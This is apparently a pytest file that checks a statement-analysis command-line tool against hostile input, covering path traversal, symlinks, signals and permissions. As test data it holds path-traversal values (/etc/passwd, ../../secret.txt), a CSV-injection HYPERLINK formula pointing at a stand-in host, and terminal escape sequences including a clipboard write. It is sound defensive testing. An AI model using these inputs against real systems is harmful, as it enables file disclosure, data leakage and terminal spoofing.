"""The command line against hostile and unusual input (issue 12): each case runs the CLI as a
subprocess, with a time limit, and checks the exit code, the message, that nothing outside
``--out`` changed and that no earlier report was lost.

Most builds here run one or two sections (``--only``) on a tiny statement: the cases are about
the build machinery, not the analyses; a full build runs where the content of every page is the
point (a statement without places; the rebuild from another folder). With
``STATEMENT_ANALYSIS_TEST_ALL_SECTIONS=1`` every build runs every section (to check these tests
against a version without ``--only``). Permission cases run the
CLI without the root user's power to ignore permissions (``setpriv``) when the suite runs as
root. The numbers in the test names are the numbered cases of issue 12.
"""

from __future__ import annotations

import contextlib
import csv
import hashlib
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

import statement_analysis as sa
from statement_analysis.reports import list_notebooks, report_notebooks

CLI = [sys.executable, "-m", "statement_analysis"]
ALL_SECTIONS = os.environ.get("STATEMENT_ANALYSIS_TEST_ALL_SECTIONS") == "1"
LIMIT = 300  # seconds for any one run of the command line
PACKAGE_PARENT = Path(sa.__file__).resolve().parent.parent
STATEMENT = (
    "The ministers met in Geneva today and agreed on a plan for Syria.\n\n"
    "They will meet again in Baghdad next month to review the plan."
)
NO_PLACE = {
    "english.txt": "The ministers met today and agreed on a plan.\n\nThey will meet again next month to review it.",
    "arabic.txt": "اجتمع الوزراء اليوم واتفقوا على خطة عمل مشتركة.\n\nوسيجتمعون مرة أخرى الشهر المقبل لمراجعة التقدم.",
    "chinese.txt": "部长们今天举行会议并商定了一项计划。\n\n他们将于下个月再次开会审查进展。",
    "punctuation.txt": "... !!! ???\n\n--- ;;; ...",
    "dots.txt": "...",
}


def cli(args: list[object], cwd: Path, *, timeout: float = LIMIT, **kw: object) -> subprocess.CompletedProcess:
    """Run the command line; stdout and stderr as text (escape sequences kept, to be checked)."""
    return subprocess.run(
        [*CLI, *map(str, args)], cwd=cwd, capture_output=True, text=True, timeout=timeout, check=False, **kw
    )


def only(sections: str) -> list[str]:
    """``--only SECTIONS``, or nothing under ``STATEMENT_ANALYSIS_TEST_ALL_SECTIONS=1``."""
    return [] if ALL_SECTIONS else ["--only", sections]


def tree(root: Path) -> dict[str, tuple[str, ...]]:
    """Everything under ``root``: folders, files (by sha256) and links (by target), not followed."""
    out: dict[str, tuple[str, ...]] = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            p = Path(dirpath) / name
            rel = p.relative_to(root).as_posix()
            if p.is_symlink():
                out[rel] = ("link", os.readlink(p))
            elif p.is_dir():
                out[rel] = ("dir",)
            elif p.is_file():
                out[rel] = ("file", hashlib.sha256(p.read_bytes()).hexdigest())
            else:
                out[rel] = ("other",)
    return out


def changed(before: dict, after: dict, *, inside: tuple[str, ...] = ()) -> list[str]:
    """Paths that differ between two ``tree``s, other than those under ``inside``."""
    keys = set(before) | set(after)
    return sorted(k for k in keys if before.get(k) != after.get(k) and not k.startswith(inside))


@pytest.fixture
def box(tmp_path: Path) -> Path:
    """A sandbox: ``in/a.txt``, and ``out/`` holding an earlier report (``out/earlier/``) that no
    run may touch."""
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "a.txt").write_text(STATEMENT, encoding="utf-8")
    earlier = tmp_path / "out" / "earlier"
    (earlier / "tables").mkdir(parents=True)
    (earlier / "index.html").write_text("<p>an earlier report</p>", encoding="utf-8")
    (earlier / "tables" / "terms.csv").write_text("term,n\nplan,2\n", encoding="utf-8")
    return tmp_path


def _ordinary_user() -> list[str]:
    """A command prefix that runs without the root user's power to ignore file permissions."""
    if os.geteuid() != 0:
        return []
    if shutil.which("setpriv") is None:
        pytest.skip("running as root without setpriv: cannot test permission errors")
    drop = "-dac_override,-dac_read_search"
    return ["setpriv", f"--bounding-set={drop}", f"--inh-caps={drop}"]


# ------------------------------------------------------------------ 1. collisions and concurrent runs
def test_1_two_inputs_with_the_same_stem_get_two_folders_named_in_their_index(box):
    for sub, text in (("x", "The ministers met in Paris."), ("y", "The ministers met in Rome.")):
        (box / sub).mkdir()
        (box / sub / "a.txt").write_text(text, encoding="utf-8")
    before = tree(box)
    r = cli(["report", "x/a.txt", "y/a.txt", "--out", "out", *only("01")], box)
    assert r.returncode == 0, r.stderr
    assert changed(before, tree(box), inside=("out/a/", "out/a-2/", "out/a", "out/a-2")) == []
    first = (box / "out" / "a" / "index.html").read_text(encoding="utf-8")
    second = (box / "out" / "a-2" / "index.html").read_text(encoding="utf-8")
    assert "<code>x/a.txt</code>" in first and "<code>y/a.txt</code>" in second
    assert "Paris" in (box / "out" / "a" / "tables" / "place_mentions.csv").read_text(encoding="utf-8")
    assert "Rome" in (box / "out" / "a-2" / "tables" / "place_mentions.csv").read_text(encoding="utf-8")


def test_1_a_report_another_build_is_writing_is_not_overwritten(box):
    from statement_analysis.reports import ReportFolder

    target = box / "out" / "earlier"
    (box / "in" / "earlier.txt").write_text(STATEMENT, encoding="utf-8")
    before = tree(box)
    with ReportFolder(target):  # another build holds the lock of out/earlier
        r = cli(["report", "in/earlier.txt", "--out", "out", *only("01")], box)
    assert r.returncode == 2, r.stderr
    assert "is writing this report now" in r.stderr and "out/earlier" in r.stderr
    assert "Traceback" not in r.stderr
    assert changed(before, tree(box)) == []


def test_1_two_runs_to_one_out_at_once_one_refuses(box):
    runs = [
        subprocess.Popen(
            [*CLI, "report", "in/a.txt", "--out", "out", *only("01")],
            cwd=box,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        for _ in range(2)
    ]
    results = [(p.wait(timeout=LIMIT), p.communicate()[1]) for p in runs]
    assert sorted(code for code, _ in results) == [0, 2], results
    assert any("is writing this report now" in err for code, err in results if code == 2)
    assert (box / "out" / "a" / "index.html").is_file() and (box / "out" / "earlier" / "index.html").is_file()


# ------------------------------------------------------------------ 2. names that climb out of --out
def test_2_a_file_named_dots_txt_stays_inside_out(box):
    (box / "in" / "...txt").write_text(STATEMENT, encoding="utf-8")
    (box / "out" / "sub").mkdir()
    (box / "out" / "index.html").write_text("<p>the parent's own index</p>", encoding="utf-8")
    before = tree(box)
    r = cli(["report", "in/...txt", "--out", "out/sub", *only("01")], box)
    assert r.returncode == 0, r.stderr
    assert changed(before, tree(box), inside=("out/sub/statement",)) == []
    assert (box / "out" / "sub" / "statement" / "index.html").is_file()
    assert "<code>in/...txt</code>" in (box / "out" / "sub" / "statement" / "index.html").read_text(encoding="utf-8")


# ------------------------------------------------------------------ 3. corpus members from elsewhere
def _corpus(root: Path, filenames: list[str]) -> Path:
    c = root / "corpus"
    (c / "txt").mkdir(parents=True)
    (c / "txt" / "one.txt").write_text("The ministers met in Paris.", encoding="utf-8")
    rows = ["filename,date,title"] + [f"{f},2021-01-0{i + 1},Statement {i}" for i, f in enumerate(filenames)]
    (c / "metadata.csv").write_text("\n".join(rows) + "\n", encoding="utf-8")
    return c


@pytest.mark.parametrize("bad", ["/etc/passwd", "../../secret.txt", "txt/../../secret.txt", "C:\\secret.txt"])
def test_3_metadata_naming_a_file_outside_the_corpus_is_refused_naming_the_row(box, bad):
    (box / "secret.txt").write_text("TOPSECRETWORD appears here", encoding="utf-8")
    _corpus(box, ["txt/one.txt", bad])
    before = tree(box)
    r = cli(["report", "in/a.txt", "--corpus", "corpus", "--out", "out", *only("06")], box)
    assert r.returncode == 2, r.stderr
    assert "row 3 of the metadata table" in r.stderr and "inside the corpus folder" in r.stderr
    assert "running" not in r.stderr  # refused before any notebook ran
    assert changed(before, tree(box)) == []
    with pytest.raises(sa.StatementAnalysisError, match="row 3"):
        sa.load_corpus(box / "corpus")


def test_3_a_symbolic_link_out_of_the_corpus_is_refused(box):
    (box / "secret.txt").write_text("TOPSECRETWORD appears here", encoding="utf-8")
    c = _corpus(box, ["txt/one.txt", "txt/two.txt"])
    (c / "txt" / "two.txt").symlink_to(box / "secret.txt")
    r = cli(["report", "in/a.txt", "--corpus", "corpus", "--out", "out", *only("06")], box)
    assert r.returncode == 2 and "outside the corpus folder" in r.stderr, r.stderr
    (c / "metadata.csv").unlink()  # found by the folder walk instead of the metadata table
    with pytest.raises(sa.StatementAnalysisError, match="outside the corpus folder"):
        sa.load_corpus(c)


# ------------------------------------------------------------------ 4. no path of the build machine
@pytest.fixture(scope="module")
def two_builds(tmp_path_factory) -> tuple[Path, Path, Path]:
    """The full report of one statement with a small corpus, built twice: from one folder with
    absolute paths, and from another folder with relative ones. Returns both report folders and
    the first sandbox."""
    one = tmp_path_factory.mktemp("one")
    two = tmp_path_factory.mktemp("two") / "elsewhere" / "deeper"
    two.mkdir(parents=True)
    for root in (one, two):
        shutil.copy(sa.bundled_statement_path(), root / "statement.txt")
        c = root / "archive"
        (c / "txt").mkdir(parents=True)
        for i, city in enumerate(("Paris", "Rome", "Baghdad")):
            text = f"The ministers met in {city} and agreed on a plan for Syria.\n\nThey will meet again in Mosul."
            (c / "txt" / f"s{i}.txt").write_text(text, encoding="utf-8")
        rows = ["filename,date,title", *(f"txt/s{i}.txt,2021-0{m}-01,Statement {i}" for i, m in enumerate("359"))]
        (c / "metadata.csv").write_text("\n".join(rows) + "\n", encoding="utf-8")
    r1 = cli(["report", one / "statement.txt", "--corpus", one / "archive", "--out", one / "out"], one)
    assert r1.returncode == 0, r1.stderr
    r2 = cli(["report", "statement.txt", "--corpus", "archive", "--out", "out"], two)
    assert r2.returncode == 0, r2.stderr
    return one / "out" / "statement", two / "out" / "statement", one


@pytest.mark.slow
def test_4_no_page_table_or_json_holds_a_path_of_the_build_machine(two_builds):
    report, _, sandbox = two_builds
    files = sorted(p for p in report.rglob("*") if p.is_file())
    assert {p.name for p in files} >= {"index.html", "summary.json"} | {f"{nb.stem}.html" for nb in report_notebooks()}
    folders = {str(sandbox), str(sandbox.resolve()), str(PACKAGE_PARENT), sys.prefix, str(Path.home()), os.getcwd()}
    folders |= {"/tmp/", "/home/", "/root/", "/Users/"}
    for f in files:
        text = f.read_text(encoding="utf-8")
        found = [d for d in folders if len(d) > 1 and d in text]
        assert not found, f"{f.name} shows {found}"
    assert json.loads((report / "tables" / "summary.json").read_text())["source"] == "statement.txt"
    page = (report / "06_compare.html").read_text(encoding="utf-8")
    assert "Archive: archive, 3 statements" in page  # the corpus, named as given


@pytest.mark.slow
def test_4_a_rebuild_from_another_folder_is_byte_identical(two_builds):
    a, b, _ = two_builds
    files_a = sorted(p.relative_to(a) for p in a.rglob("*") if p.is_file())
    assert files_a == sorted(p.relative_to(b) for p in b.rglob("*") if p.is_file())
    differ = [str(f) for f in files_a if (a / f).read_bytes() != (b / f).read_bytes()]
    assert differ == []


# ------------------------------------------------------------------ 5. formulas in CSV cells
def test_5_csv_cells_that_a_spreadsheet_would_run_are_neutralised(box):
    text = (
        '=HYPERLINK("http://x.test/?"&A1,"click") is not a formula in Paris.\n\n'
        "+1 and -2 and @SUM(A1) are words in Rome."
    )
    (box / "in" / "f.txt").write_text(text, encoding="utf-8")
    r = cli(["report", "in/f.txt", "--out", "out", *only("01")], box)
    assert r.returncode == 0, r.stderr
    seen = 0
    for table in (box / "out" / "f" / "tables").glob("*.csv"):
        with table.open(encoding="utf-8", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                        float(cell)  # only numbers may start so (a negative longitude)
                    seen += cell.startswith("'=") or cell.startswith("'+") or cell.startswith("'@")
    assert seen >= 3  # the paragraph and the tokens that began with =, + and @, now quoted
    paragraphs = (box / "out" / "f" / "tables" / "paragraphs.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in paragraphs and "'+1 and -2" in paragraphs


# ------------------------------------------------------------------ 6. escape sequences to the terminal
def test_6_titles_reach_the_terminal_without_escape_sequences(box):
    title = "Joint statement \x1b]0;owned\x07\x1b]52;c;ZXZpbA==\x07\x1b[31mred\x1b[0m \u202eevil\u202c \x9b31m"
    body = "The ministers met in Geneva today and agreed on a plan. " * 40
    (box / "in" / "t.txt").write_text(f"{title}\n\n22.03.2017\n\nTeaser\n\nA teaser.\n\nText\n\n{body}\n", "utf-8")
    r = cli(["summary", "in/t.txt"], box)
    assert r.returncode == 0, r.stderr
    for bad in ("\x1b", "\x07", "\x9b", "\u202e"):
        assert bad not in r.stdout
    assert "Joint statement" in r.stdout and "red" in r.stdout
    j = cli(["summary", "in/t.txt", "--format", "json"], box)
    assert j.returncode == 0 and not any(c in j.stdout for c in ("\x1b", "\x07", "\x9b", "\u202e"))
    assert json.loads(j.stdout)["title"] == title  # the JSON keeps the title, escaped as \\u001b...


# ------------------------------------------------------------------ 7. ordinary statements that failed
@pytest.mark.slow
def test_7_a_statement_that_names_no_place_gets_a_full_report(box):
    (box / "in" / "plain.txt").write_text(NO_PLACE["english.txt"], encoding="utf-8")
    before = tree(box)
    r = cli(["report", "in/plain.txt", "--out", "out"], box)
    assert r.returncode == 0, r.stderr
    assert changed(before, tree(box), inside=("out/plain",)) == []
    pages = {p.name for p in (box / "out" / "plain").glob("*.html")}
    assert pages == {"index.html"} | {f"{nb.stem}.html" for nb in report_notebooks()}
    geo = (box / "out" / "plain" / "05_geography.html").read_text(encoding="utf-8")
    assert "The statement names no place that the gazetteer knows" in geo


@pytest.mark.slow
def test_7_no_place_no_word_another_script_every_notebook_runs(tmp_path):
    from concurrent.futures import ThreadPoolExecutor

    from statement_analysis.reports import Kernel

    names = [n for n in NO_PLACE if n != "english.txt"]  # that one is built in full above
    for name in names:
        (tmp_path / name).write_text(NO_PLACE[name], encoding="utf-8")

    def run_all(some: list[str]) -> int:
        with Kernel(tmp_path) as kernel:
            for name in some:
                for nb in list_notebooks():
                    kernel.run(nb, {"statement_path": name})  # raises on any error shown in a cell
        return len(some)

    with ThreadPoolExecutor(2) as pool:  # two kernels, as a report build runs them
        assert sum(pool.map(run_all, [names[::2], names[1::2]])) == 4


def test_7_placeholder_dates_in_a_corpus_are_unknown_not_a_crash(box):
    c = _corpus(box, ["txt/one.txt", "txt/two.txt", "txt/three.txt"])
    for name, city in (("two.txt", "Rome"), ("three.txt", "Berlin")):
        (c / "txt" / name).write_text(f"The ministers met in {city}.", encoding="utf-8")
    rows = ["filename,date,title", "txt/one.txt,0001-01-01,A", "txt/two.txt,9999-12-31,B", "txt/three.txt,2021-05-01,C"]
    (c / "metadata.csv").write_text("\n".join(rows) + "\n", encoding="utf-8")
    r = cli(["report", "in/a.txt", "--corpus", "corpus", "--out", "out", *only("06")], box)
    assert r.returncode == 0, r.stderr
    assert "treated as unknown" in r.stderr  # said before the build...
    page = (box / "out" / "a" / "06_compare.html").read_text(encoding="utf-8")
    assert "treated as unknown" in page  # ...and in the page
    with pytest.warns(UserWarning, match="2 date"):
        corpus = sa.load_corpus(c)
    assert corpus["date"].notna().sum() == 1


def test_7_a_failed_run_leaves_no_empty_folder(box):
    c = _corpus(box, ["txt/one.txt", "/etc/passwd"])
    assert c.is_dir()
    r = cli(["report", "in/a.txt", "--corpus", "corpus", "--out", "new/out"], box)
    assert r.returncode == 2
    assert not (box / "new").exists()


# ------------------------------------------------------------------ 8. mathtext
def test_8_a_dollar_title_is_text_in_every_chart(box):
    body = "The ministers met in Geneva and agreed on $5 million for Syria. " * 20
    eeas = f"$x_1_2$ and $\\frac{{a}}{{b}}$\n\n22.03.2017\n\nTeaser\n\nA teaser.\n\nText\n\n{body}\n\n{body}\n"
    (box / "in" / "m.txt").write_text(eeas, encoding="utf-8")
    r = cli(["report", "in/m.txt", "--out", "out", *only("02,03")], box)
    assert r.returncode == 0, r.stderr
    for page in ("02_readability.html", "03_term_frequency.html"):
        html = (box / "out" / "m" / page).read_text(encoding="utf-8")
        assert "Traceback" not in html and "ParseFatalException" not in html
        assert html.count("<img") >= 3


def test_8_charts_draw_dollar_signs_as_text():
    import io

    import matplotlib
    import pandas as pd

    matplotlib.use("Agg")
    from statement_analysis.plots import terms as term_plots

    st = sa.load_statement(text="Ministers met.", title="$x_1_2$")
    ax = term_plots.plot_top_terms(pd.DataFrame({"term": ["$x_1_2$", "$a^b"], "n": [2, 1]}), source=st)
    ax.figure.savefig(io.BytesIO(), format="png")  # mathtext would fail: "Double subscript"
    assert [t.get_text() for t in ax.get_yticklabels()] == ["$x_1_2$", "$a^b"]


# ------------------------------------------------------------------ 9. pipes, devices, sizes
@pytest.mark.parametrize("command", ["report", "summary"])
def test_9_a_named_pipe_is_refused_not_waited_on(box, command):
    fifo = box / "in" / "pipe.txt"
    os.mkfifo(fifo)
    r = cli([command, "in/pipe.txt", *(["--out", "out"] if command == "report" else [])], box, timeout=60)
    assert r.returncode == 2 and "named pipe" in r.stderr and "in/pipe.txt" in r.stderr, r.stderr


@pytest.mark.parametrize("command", ["report", "summary"])
def test_9_a_device_is_refused_not_read(box, command):
    r = cli([command, "/dev/zero", *(["--out", "out"] if command == "report" else [])], box, timeout=60)
    assert r.returncode == 2 and "character device" in r.stderr and "/dev/zero" in r.stderr, r.stderr


def test_9_max_mb_holds_for_summary_and_is_validated(box):
    (box / "in" / "big.txt").write_text(("The ministers met. " * 1000 + "\n\n") * 60, encoding="utf-8")  # 1.1 MB
    r = cli(["summary", "in/big.txt", "--max-mb", "1"], box)
    assert r.returncode == 2 and "over the 1 MB limit" in r.stderr and "in/big.txt" in r.stderr
    for bad in ("nan", "inf", "0", "-3", "many"):
        r = cli(["summary", "in/a.txt", "--max-mb", bad], box)
        assert r.returncode == 2 and "--max-mb" in r.stderr, (bad, r.stderr)


# ------------------------------------------------------------------ 10. one enormous word
def test_10_a_huge_word_gives_charts_of_a_sane_size():
    import matplotlib
    import pandas as pd

    matplotlib.use("Agg")
    from statement_analysis.plots import terms as term_plots

    freq = pd.DataFrame({"term": ["x" * 1_000_000, "plan"], "n": [2, 1]})
    ax = term_plots.plot_top_terms(freq)
    ax.figure.canvas.draw()
    assert max(len(t.get_text()) for t in ax.get_yticklabels()) <= 40
    assert ax.figure.get_size_inches()[0] <= 8.0
    cloud = term_plots.cloud_layout(freq)
    assert max(len(word) for (word, _), *_ in cloud.layout_) <= 40


@pytest.mark.slow
def test_10_a_statement_of_one_long_line_builds_in_time(box):
    (box / "in" / "line.txt").write_text("x" * 200_000, encoding="utf-8")
    r = cli(["report", "in/line.txt", "--out", "out", *only("03")], box, timeout=240)
    assert r.returncode == 0, r.stderr
    html = (box / "out" / "line" / "03_term_frequency.html").read_text(encoding="utf-8")
    assert html.count("<img") >= 3  # top terms, dispersion, word cloud: drawn, at a normal size
    assert all(p.stat().st_size < 2_000_000 for p in (box / "out" / "line").glob("*.html"))
    index = (box / "out" / "line" / "index.html").read_text(encoding="utf-8")
    assert "x" * 39 + "…" in index and "x" * 41 not in index  # the headline's top term, cut


# ------------------------------------------------------------------ 12. Ctrl-C, SIGTERM, SIGKILL
def _running(box: Path, name: str) -> subprocess.Popen:
    """A full build of ``in/<name>`` into ``out/``, started; returns once its kernels run."""
    (box / "in" / name).write_text(STATEMENT, encoding="utf-8")
    p = subprocess.Popen([*CLI, "report", f"in/{name}", "--out", "out"], cwd=box, stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline:
        line = p.stderr.readline()  # type: ignore[union-attr]
        if "running" in line or not line:
            break
    assert p.poll() is None, "the build ended before it could be stopped"
    return p


def _kernel_dirs() -> set[str]:
    import tempfile

    return {d.name for d in Path(tempfile.gettempdir()).glob("statement-analysis-kernel-*")}


@pytest.mark.slow
@pytest.mark.parametrize(("sig", "code"), [(signal.SIGINT, 130), (signal.SIGTERM, 143)])
def test_12_ctrl_c_and_sigterm_stop_the_build_at_once_and_clean_up(box, sig, code):
    import psutil

    before = tree(box)
    kernels_before = _kernel_dirs()
    p = _running(box, "stop.txt")
    before["in/stop.txt"] = tree(box)["in/stop.txt"]
    children = psutil.Process(p.pid).children(recursive=True)
    assert children, "no kernel was running"
    t = time.monotonic()
    p.send_signal(sig)
    try:
        assert p.wait(timeout=30) == code
    finally:  # a build that ignores the signal must not outlive the test
        for proc in [p, *children]:
            with contextlib.suppress(psutil.Error, OSError):
                proc.kill()
    assert time.monotonic() - t <= 2.0
    time.sleep(0.5)
    assert [c.pid for c in children if c.is_running() and c.status() != psutil.STATUS_ZOMBIE] == []
    assert changed(before, tree(box)) == []  # no staging folder, no half report, the earlier one kept
    assert _kernel_dirs() <= kernels_before  # no connection file (HMAC key) left


_KILL_DURING_START = r"""
import os, sys, threading, time
from pathlib import Path
from jupyter_client.manager import KernelManager
from statement_analysis.reporting.kernel import Kernel

started = threading.Event()
orig = KernelManager.start_kernel

def start_kernel(self, **kw):  # the process is launched; the Kernel has not seen its pid yet
    orig(self, **kw)
    started.set()
    time.sleep(0.5)

KernelManager.start_kernel = start_kernel
k = Kernel(Path(sys.argv[1]))

def enter():
    try:
        k.__enter__()
    except BaseException:
        pass

threading.Thread(target=enter, daemon=True).start()
assert started.wait(60)
k.kill()  # Ctrl-C in the main thread while a worker starts its kernel
os._exit(130)  # what the command does once the build has cleaned up
"""


def test_12_a_kill_while_a_kernel_starts_leaves_no_kernel_or_folder(tmp_path):
    # CI caught it: Ctrl-C while the second kernel was starting left its folder (with the
    # connection file's key) and its process, once the command exited at once after cleaning up
    import psutil

    kernels_before = _kernel_dirs()
    r = subprocess.run(
        [sys.executable, "-c", _KILL_DURING_START, str(tmp_path)], capture_output=True, text=True, timeout=120
    )
    assert r.returncode == 130, r.stderr
    time.sleep(0.5)
    alive = []
    for proc in psutil.process_iter(["cmdline"]):
        with contextlib.suppress(psutil.Error):
            if "statement_analysis.reporting._kernel_launch" in " ".join(
                proc.info["cmdline"] or ()
            ) and proc.cwd() == str(tmp_path):
                alive.append(proc)
                proc.kill()
    assert alive == [], "a kernel outlived the command"
    assert _kernel_dirs() <= kernels_before, "a kernel's private folder was left"


@pytest.mark.slow
def test_12_after_sigkill_the_next_build_removes_what_was_left(box):
    kernels_before = _kernel_dirs()
    p = _running(box, "killed.txt")
    time.sleep(1)
    p.kill()
    p.wait(timeout=30)
    assert (box / "out" / ".statement-analysis").is_dir()  # left behind: nothing can run on SIGKILL
    r = cli(["report", "in/a.txt", "--out", "out", *only("01")], box)
    assert r.returncode == 0, r.stderr
    assert sorted(p.name for p in (box / "out").iterdir()) == ["a", "earlier"]
    assert _kernel_dirs() <= kernels_before


# ------------------------------------------------------------------ 13. user and environment errors
def test_13_an_unreadable_file_is_exit_2(box):
    prefix = _ordinary_user()
    f = box / "in" / "a.txt"
    f.chmod(0)
    try:
        r = subprocess.run([*prefix, *CLI, "summary", "in/a.txt"], cwd=box, capture_output=True, text=True, timeout=60)
    finally:
        f.chmod(0o644)
    assert r.returncode == 2 and "permission denied" in r.stderr and "in/a.txt" in r.stderr, r.stderr


def test_13_a_read_only_out_is_exit_2(box):
    prefix = _ordinary_user()
    out = box / "out"
    before = tree(box)
    out.chmod(0o555)
    try:
        r = subprocess.run(
            [*prefix, *CLI, "report", "in/a.txt", "--out", "out", *only("01")],
            cwd=box,
            capture_output=True,
            text=True,
            timeout=LIMIT,
        )
    finally:
        out.chmod(0o755)
    assert r.returncode == 2 and "out" in r.stderr and "ermission denied" in r.stderr, r.stderr
    assert "internal error" not in r.stderr
    assert changed(before, tree(box)) == []


def test_13_a_full_disk_is_exit_2(box):
    with open("/dev/full", "w") as full:
        r = subprocess.run([*CLI, "summary", "in/a.txt"], cwd=box, stdout=full, stderr=subprocess.PIPE, text=True)
    assert r.returncode == 2 and "No space left on device" in r.stderr, r.stderr


def test_13_a_write_that_fails_during_the_build_is_exit_2(box):
    import resource

    def small_files() -> None:  # writes over 20 kB fail with EFBIG, as on a full disk
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (20_000, 20_000))

    before = tree(box)
    r = subprocess.run(
        [*CLI, "report", "in/a.txt", "--out", "out", *only("01")],
        cwd=box,
        capture_output=True,
        text=True,
        timeout=LIMIT,
        preexec_fn=small_files,
    )
    assert r.returncode == 2 and "File too large" in r.stderr, r.stderr
    assert changed(before, tree(box)) == []


def test_13_out_that_is_a_file_and_tables_that_is_a_file_are_exit_2_before_any_work(box):
    (box / "file").write_text("not a folder")
    r = cli(["report", "in/a.txt", "--out", "file"], box)
    assert r.returncode == 2 and "is not a folder" in r.stderr and "file" in r.stderr
    (box / "out" / "tables").write_text("a file where the bundled report puts its tables")
    before = tree(box)
    r = cli(["report", "--out", "out"], box)
    assert r.returncode == 2 and "out/tables" in r.stderr and "running" not in r.stderr, r.stderr
    assert changed(before, tree(box)) == []


def test_13_a_closed_pipe_is_exit_2(box):
    read, write = os.pipe()
    os.close(read)
    try:
        r = subprocess.run([*CLI, "summary", "in/a.txt"], cwd=box, stdout=write, stderr=subprocess.PIPE, text=True)
    finally:
        os.close(write)
    assert r.returncode == 2 and "broken pipe" in r.stderr and "Exception ignored" not in r.stderr, r.stderr


# ------------------------------------------------------------------ 14. strict JSON
def test_14_summary_json_never_holds_nan(box):
    import jsonschema

    from statement_analysis.summary import schema

    (box / "in" / "dots.txt").write_text("...", encoding="utf-8")
    r = cli(["summary", "in/dots.txt", "--format", "json"], box)
    assert r.returncode == 0, r.stderr

    def refuse(name: str) -> None:
        raise AssertionError(f"{name} is not JSON")

    data = json.loads(r.stdout, parse_constant=refuse)
    assert data["counts"]["words"] == 0 and data["readability"] is None
    assert {t["share"] for t in data["themes"]} == {None}
    jsonschema.validate(data, schema())


# ------------------------------------------------------------------ 15. the small things
def test_15_encoding_option_and_its_hint(box):
    (box / "in" / "fr.txt").write_bytes("Déclaration commune des ministres à Genève.".encode("cp1252"))
    r = cli(["summary", "in/fr.txt"], box)
    assert r.returncode == 2 and "--encoding cp1252" in r.stderr
    r = cli(["summary", "in/fr.txt", "--encoding", "cp1252", "--format", "json"], box)
    assert r.returncode == 0, r.stderr
    assert json.loads(r.stdout)["counts"]["words"] == 6
    r = cli(["summary", "in/fr.txt", "--encoding", "klingon"], box)
    assert r.returncode == 2 and "unknown encoding" in r.stderr


def test_15_a_symbolic_link_loop_is_named_as_such(box):
    loop = box / "in" / "loop.txt"
    loop.symlink_to(loop)
    r = cli(["summary", "in/loop.txt"], box)
    assert r.returncode == 2 and "symbolic link loop" in r.stderr, r.stderr


def test_15_corpus_errors_come_before_any_notebook(box):
    (box / "corpus").mkdir()
    (box / "corpus" / "metadata.csv").write_text("title,year\nA,2021\n", encoding="utf-8")
    r = cli(["report", "in/a.txt", "--corpus", "corpus", "--out", "out"], box)
    assert r.returncode == 2 and "'filename' or a 'doc_id' column" in r.stderr
    assert "running" not in r.stderr


def test_15_kernels_open_no_tcp_port(tmp_path):
    import psutil

    from statement_analysis.reports import Kernel

    with Kernel(tmp_path) as kernel:
        kernel.km.client().wait_for_ready(timeout=60)
        proc = psutil.Process(kernel.pid)
        listening = [c for p in [proc, *proc.children(recursive=True)] for c in p.net_connections(kind="tcp")]
        assert listening == []


# ------------------------------------------------------------------ 11. memory follows the input
def test_11_summary_never_tokenises_a_long_statement_at_once(monkeypatch):
    from statement_analysis import summary, tidy
    from statement_analysis.analysis import analyse

    st = sa.load_bundled()
    sizes: list[int] = []
    real = tidy.tokens

    def spy(x, **kw):
        sizes.append(len(x.text) if isinstance(x, sa.Statement) else int(x["text"].str.len().sum()))
        return real(x, **kw)

    expected = summary.summarize(st, analysis=analyse(st))
    monkeypatch.setattr(summary, "BLOCK_CHARS", 1500)
    monkeypatch.setattr(tidy, "tokens", spy)
    assert summary.summarize(st) == expected  # the same figures...
    longest = max(len(p) for p in st.paragraphs)
    assert sizes and max(sizes) <= 1500 + longest < len(st.text)  # ...never from the whole token table


def test_11_readability_of_a_long_text_is_counted_in_pieces_with_the_same_counts(monkeypatch):
    from statement_analysis.readability import counter

    text = "\n\n".join([sa.load_bundled().text] * 3 + ["No full stop here, and U.S. officials said so"])
    whole = counter.count_text(text)
    monkeypatch.setattr(counter, "PIECE", 700)
    assert len(counter._pieces(text, 700)) > 10
    assert counter.count_text(text) == whole
